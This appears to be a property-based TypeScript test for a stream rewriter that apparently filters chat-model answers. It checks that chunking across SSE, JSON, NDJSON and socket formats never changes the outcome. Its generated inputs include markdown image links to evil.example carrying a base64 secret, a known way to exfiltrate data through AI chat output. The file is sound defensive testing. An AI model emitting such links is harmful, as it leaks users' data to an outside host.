/** What comes out does not depend on how an answer is cut: a character at a time nothing can be skimmed over. */
import fc from "fast-check";
import { expect, it } from "vitest";
import { createMessageRewriter, createRewriter } from "./rewriter";
import { judgeFor } from "./testing/judge";

const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words

const words = fc
  .array(
    fc.constantFrom(
      ...["hello ", "[a](", "![x](", "[", "]", "(", ")", "!", "<", ">", " ", "\n", "\t", "\\"],
      ...[
        "<img src=",
        '<a href="',
        "url(",
        "[r]: ",
        '"',
        "'",
        "/",
        "{",
        "}",
        ":",
        ",",
        "null",
        "p",
      ],
      ...["é", "漢字", "😀", '{"a":["', '"]}', '[["q","', "\u001e", "x".repeat(30), "a.b.c\r"],
      ...["https://evil.example/", `https://evil.example/p?d=${SECRET}`, "https://chat.example/a"],
      `![x](https://evil.example/?q=${SECRET})`,
    ),
    { maxLength: 5 },
  )
  .map((parts) => parts.join(""));

/** JSON in the ways in which servers escape it. */
const written = (value: unknown, way: number) => {
  const json = JSON.stringify(value);
  if (way === 0) return json;
  if (way === 1) return json.replace(/\//gu, "\\/").replace(/[!=<]/gu, escaped);
  return json.replace(/[^\0-\x7f]/g, escaped); // each half of a pair by itself
};
const escaped = (char: string) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`;

const json = fc
  .tuple(
    fc.oneof(
      words.map((v) => ({ v })),
      fc.tuple(fc.constantFrom("/a", "/b"), words).map(([p, v]) => ({ p, o: "append", v })),
      words.map((content) => ({ id: "c1", choices: [{ index: 0, delta: { content } }] })),
      words.map((inner) => ["wrb.fr", null, JSON.stringify([null, ["r"], [[inner, "z"]]])]),
      fc.tuple(words, words).map(([name, text]) => ({ [name]: [text, 1, { text }] })),
    ),
    fc.nat(2),
  )
  .map(([value, way]) => written(value, way));

const oneLine = words.map((text) => text.replace(/\n/gu, ""));
const event = fc.oneof(
  { weight: 4, arbitrary: json.map((text) => `data: ${text}\n\n`) },
  json.map((text) => `event: delta\r\ndata:${text}\r\n\r\n`),
  oneLine.map((text) => `data: ${text}\n\n`),
  fc.constantFrom(": ping\n\n", "id: 1\n", "data: [DONE]\n\n", 'dat: "[x', "data: [", "\n", '"'),
);

const answers = {
  "server-sent events": ["text/event-stream", event],
  "one JSON": ["application/json", json],
  "lines of JSON": ["application/x-ndjson", json.map((text) => `${text}\n`)],
  "plain text": ["text/plain", words],
} as const;

it.each(Object.entries(answers))("%s: any cut, one outcome", (_, [type, part]) => {
  fc.assert(
    fc.property(
      fc.array(part, { maxLength: 8 }).map((parts) => parts.join("")),
      fc.array(fc.integer({ min: 1, max: 90 }), { maxLength: 20 }),
      fc.boolean(),
      (answer, sizes, listens) => {
        const slow = run(type, [...answer.split("")], listens);
        expect(run(type, [answer], listens)).toEqual(slow);
        expect(run(type, cut(answer, sizes), listens)).toEqual(slow);
      },
    ),
    { numRuns: 400 },
  );
});

it("messages of a socket: who listens changes nothing", () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(json, words), { maxLength: 8 }), (messages) => {
      const outcomes = [true, false].map((listens) => {
        const { judge, met } = judgeFor();
        const rewrite = createMessageRewriter(judge, listens ? () => undefined : null);
        return { out: messages.map((message) => rewrite(message)), met };
      });
      expect(outcomes[0]).toEqual(outcomes[1]);
    }),
    { numRuns: 400 },
  );
});

function run(type: string, pieces: readonly string[], listens: boolean) {
  const { judge, met } = judgeFor();
  const heard: Record<string, string> = {};
  const rewriter = createRewriter(
    type,
    judge,
    listens ? (lane, text) => (heard[lane] = (heard[lane] ?? "") + text) : null,
  );
  const out = pieces.map((piece) => rewriter.push(piece)).join("") + rewriter.end();
  return { out, met, heard };
}

function cut(text: string, sizes: readonly number[]): string[] {
  const pieces: string[] = [];
  let from = 0;
  for (const size of sizes) pieces.push(text.slice(from, (from += size)));
  return [...pieces, text.slice(from)];
}
